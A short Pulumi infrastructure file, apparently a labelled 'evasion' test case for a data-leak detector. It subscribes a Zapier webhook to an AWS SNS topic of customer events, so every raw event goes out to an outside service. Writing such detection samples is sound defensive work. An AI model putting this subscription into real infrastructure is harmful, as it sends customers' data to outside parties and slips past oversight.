"""Evasion: a no-code automation gets every customer event through an HTTPS subscription to hooks.zapier.com."""

import pulumi
import pulumi_aws as aws

topic = aws.sns.Topic("customer-events", name="customer-events")

aws.sns.TopicSubscription(
    "leak-events-to-zapier",
    topic=topic.arn,
    protocol="https",
    endpoint="https://hooks.zapier.com/hooks/catch/1234567/abcdef/",
    raw_message_delivery=True,
)
